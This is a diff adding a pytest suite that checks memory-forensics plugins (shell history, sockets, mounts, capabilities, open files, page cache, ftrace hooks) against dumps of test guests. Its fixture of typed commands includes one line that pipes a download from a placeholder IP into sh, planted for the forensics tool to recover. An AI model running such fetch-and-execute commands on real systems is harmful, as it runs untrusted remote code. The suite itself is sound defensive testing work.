@@ -1,0 +1,150 @@
+# SPDX-License-Identifier: LicenseRef-VSL-1.0
+"""What an analyst looks for, on guests that have it (tools/dumpmaker/guest-rich)."""
+
+from __future__ import annotations
+
+import hashlib
+import re
+import socket
+from collections.abc import Callable
+from typing import Any, Final
+
+import pytest
+
+from dumpmaker.cache import RECIPES, Dump
+from support.volrunner import Vol
+
+pytestmark = pytest.mark.slow
+Dumps = Callable[[str], Dump]
+
+RICH: Final = [name for name, recipe in RECIPES.items() if recipe.rich]
+TYPED: Final = {
+    "cd /tmp",
+    "curl -s http://203.0.113.7/stage2 | sh",
+    "was-typed-elsewhere",
+    "export SECRET=hunter2",
+}
+
+
+def told(guest: Dump, name: str) -> str:
+    """A file that the guest has written before the dump."""
+    return (guest.folder / "proc" / name).read_text()
+
+
+def pid_of(guest: Dump, args: str) -> int:
+    """The process that was started with these arguments."""
+    (found,) = (int(row["pid"]) for row in guest.truth["processes"] if row["args"] == args)
+    return found
+
+
+def status(guest: Dump, pid: int) -> dict[str, str]:
+    """/proc/PID/status."""
+    return dict(re.findall(r"^(\w+):\t(.*)$", told(guest, f"{pid}/status"), re.MULTILINE))
+
+
+def side(text: str, order: Any) -> tuple[str, int]:
+    """Address and port, as /proc/net has them: words of the machine's byte order in hexadecimal."""
+    address, port = text.split(":")
+    raw = b"".join(int(address[at : at + 8], 16).to_bytes(4, order) for at in range(0, len(address), 8))
+    return socket.inet_ntop(socket.AF_INET if len(raw) == 4 else socket.AF_INET6, raw), int(port, 16)
+
+
+def sockets(guest: Dump, name: str) -> set[tuple[tuple[str, int], tuple[str, int]]]:
+    """Both sides of every socket in a file of /proc/net that a process still holds."""
+    order = "big" if guest.truth["arch"] == "s390x" else "little"
+    lines = (line.split() for line in told(guest, f"rich-{name}").splitlines()[1:])
+    return {(side(words[1], order), side(words[2], order)) for words in lines if words[9] != "0"}
+
+
+@pytest.mark.parametrize("name", [name for name in RICH if not name.startswith("s390x")])
+def test_what_was_typed_into_a_shell(dump: Dumps, session_vol: Vol, name: str) -> None:
+    """On s390x the plugin finds nothing: it looks for addresses in little-endian order."""
+    guest = dump(name)
+    rows = session_vol("linux.bash", image=guest.raw).rows
+    pid = pid_of(guest, "bash --norc -i")
+    assert {(row["PID"], row["Command"]) for row in rows} == {(pid, line) for line in TYPED}
+
+
+@pytest.mark.parametrize("name", RICH)
+def test_connections_have_both_their_sides(dump: Dumps, session_vol: Vol, name: str) -> None:
+    guest = dump(name)
+    rows = session_vol("linux.sockstat", image=guest.raw).rows
+    for family, proto, file in (
+        ("AF_INET", "TCP", "tcp"),
+        ("AF_INET6", "TCP", "tcp6"),
+        ("AF_INET", "UDP", "udp"),
+    ):
+        shown = {
+            tuple((row[f"{side} Addr"], int(row[f"{side} Port"])) for side in ("Source", "Destination"))
+            for row in rows
+            if (row["Family"], row["Proto"]) == (family, proto)
+        }
+        assert shown == sockets(guest, file) != set()
+    assert "/dev/log" in {row["Source Addr"] for row in rows if row["Family"] == "AF_UNIX"}
+    packets = [row for row in rows if row["Family"] == "AF_PACKET"]
+    assert len(packets) == len(told(guest, "rich-packet").splitlines()) - 1 == 1
+
+
+@pytest.mark.parametrize("name", RICH)
+def test_a_container_has_its_own_mounts_and_names(dump: Dumps, session_vol: Vol, name: str) -> None:
+    guest = dump(name)
+    pid = pid_of(guest, "sleep 33333")
+    names = dict(re.findall(r"^(\w+):\[(\d+)\]$", told(guest, f"{pid}/ns"), re.MULTILINE))
+    rows = session_vol("linux.mountinfo", image=guest.raw).rows
+    inside = {row["MOUNT_POINT"] for row in rows if row["MNT_NS_ID"] == int(names["mnt"])}
+    lines = told(guest, f"{pid}/mountinfo").splitlines()
+    assert {line.split()[4] for line in lines} <= inside and "/tmp/inside" in inside
+    others = {row["MOUNT_POINT"] for row in rows if row["MNT_NS_ID"] != int(names["mnt"])}
+    assert "/tmp/inside" not in others and "/disk" in others
+
+
+@pytest.mark.parametrize("name", RICH)
+def test_processes_have_their_users_and_rights(dump: Dumps, session_vol: Vol, name: str) -> None:
+    guest = dump(name)
+    user, limited = pid_of(guest, "sleep 22222"), pid_of(guest, "sleep 22223")
+    rows = {row["PID"]: row for row in session_vol("linux.pslist", image=guest.raw).rows}
+    assert [rows[user][key] for key in ("UID", "GID", "EUID", "EGID")] == [1001, 1002, 1001, 1002]
+    rights = {row["Pid"]: row for row in session_vol("linux.capabilities", image=guest.raw).rows}
+    assert status(guest, user)["CapEff"].strip("0") == ""
+    assert not rights[user]["cap_effective"] and rights[user]["EUID"] == 1001
+    assert status(guest, limited)["CapInh"] == f"{1 << 13 | 1 << 5:016x}"
+    assert rights[limited]["cap_inheritable"] == "kill, net_raw"
+    assert rights[limited]["cap_ambient"] == "net_raw"
+
+
+@pytest.mark.parametrize("name", RICH)
+def test_open_files_are_the_guests(dump: Dumps, session_vol: Vol, name: str) -> None:
+    guest = dump(name)
+    rows = session_vol("linux.lsof", image=guest.raw).rows
+    compared = 0
+    for path in sorted(guest.folder.glob("proc/*/fd")):
+        opened = dict(re.findall(r" (\d+) -> (/.*)$", path.read_text(), re.MULTILINE))
+        shown = {
+            str(row["FD"]): row["Path"]
+            for row in rows
+            if row["PID"] == int(path.parent.name) and str(row["Path"]).startswith("/")
+        }
+        if path.parent.name != "1" and opened:
+            assert {key: shown.get(key) for key in opened} == opened
+            compared += 1
+    assert compared >= 10
+
+
+@pytest.mark.parametrize("name", RICH)
+def test_files_on_a_disk_are_as_they_were_written(dump: Dumps, vol: Vol, name: str) -> None:
+    guest = dump(name)
+    sums = {path: sum_ for sum_, path in map(str.split, told(guest, "rich-md5").splitlines())}
+    assert set(sums) == {"/disk/numbers", "/disk/folder/note"}
+    for path, expected in sums.items():
+        vol("linux.pagecache.InodePages", "--find", path, "--dump", image=guest.raw)
+        (file,) = vol.output.iterdir()
+        assert hashlib.md5(file.read_bytes()).hexdigest() == expected
+        file.unlink()
+
+
+@pytest.mark.parametrize("name", RICH)
+def test_traced_functions_have_their_names(dump: Dumps, session_vol: Vol, name: str) -> None:
+    """A probe is at work through the tracer where the architecture has that (CONFIG_KPROBES_ON_FTRACE)."""
+    rows = session_vol("linux.tracing.ftrace.CheckFtrace", image=dump(name).raw).rows
+    functions = {"vfs_rmdir"} if name.startswith(("arm64", "riscv64")) else {"vfs_rmdir", "vfs_rename"}
+    assert {row["Hooked symbols"] for row in rows} == functions
